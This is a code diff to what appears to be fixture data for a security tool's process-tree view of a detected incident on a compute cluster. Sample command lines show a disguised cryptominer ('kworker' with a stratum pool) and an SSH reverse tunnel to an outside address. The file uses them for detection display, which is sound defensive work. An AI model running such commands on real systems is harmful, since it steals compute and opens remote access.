@@ -151,7 +151,13 @@ function processes(finding: Finding): FindingDetail['processes'] {
   if (finding.source.pid === null) return [];
   const shell = {
     comm: 'bash',
-    executable: { path: '/usr/bin/bash', device: '259:2', inode: '1310855', deleted: false },
+    executable: {
+      path: '/usr/bin/bash',
+      device: '259:2',
+      inode: '1310855',
+      deleted: false,
+      fileSystem: 'ext4',
+    },
   };
   return [
     process(1, null, {
@@ -168,18 +174,30 @@ function processes(finding: Finding): FindingDetail['processes'] {
       comm: 'slurmstepd',
       user: 'root',
       uid: 0,
-      executable: { path: '/usr/sbin/slurmstepd', device: '259:2', inode: '77123', deleted: false },
-      commandLine: 'slurmstepd: [8101.batch]',
+      executable: {
+        path: '/usr/sbin/slurmstepd',
+        device: '259:2',
+        inode: '77123',
+        deleted: false,
+        fileSystem: 'ext4',
+      },
+      commandLine: null,
     }),
-    process(4010, 3900, { ...shell, commandLine: '/bin/bash /var/spool/slurmd/job08101/slurm_script' }),
+    process(4010, 3900, { ...shell, commandLine: null }),
     process(4022, 4010, { role: 'declared', activeMs: 412 * HOUR_MS, devices: ['a0', 'a1', 'a2', 'a3'] }),
-    process(4407, 4022, { comm: 'iflow-tool', commandLine: 'iflow-tool --sandbox /srv/sbx' }),
-    process(5101, 4407, { ...shell, commandLine: 'bash -c ./setup.sh' }),
+    process(4407, 4022, { comm: 'iflow-tool', commandLine: null }),
+    process(5101, 4407, { ...shell, commandLine: null }),
     process(finding.source.pid, 5101, {
       role: 'source',
       comm: finding.source.comm ?? '?',
       user: finding.source.user,
-      executable: { path: finding.source.executable ?? '', device: '0:25', inode: '48', deleted: true },
+      executable: {
+        path: finding.source.executable ?? '',
+        device: '0:25',
+        inode: '48',
+        deleted: true,
+        fileSystem: 'tmpfs',
+      },
       commandLine: './kworker --algo kawpow -o stratum+tcp://***:*** -u ***',
       commandLineCut: true,
       activeMs: finding.activeMs,
@@ -188,7 +206,13 @@ function processes(finding: Finding): FindingDetail['processes'] {
     process(5133, 5101, {
       role: 'sibling',
       comm: 'ssh',
-      executable: { path: '/usr/bin/ssh', device: '259:2', inode: '1311502', deleted: false },
+      executable: {
+        path: '/usr/bin/ssh',
+        device: '259:2',
+        inode: '1311502',
+        deleted: false,
+        fileSystem: 'ext4',
+      },
       commandLine: 'ssh -N -R 18022:localhost:22 ***@203.0.113.9',
     }),
   ];
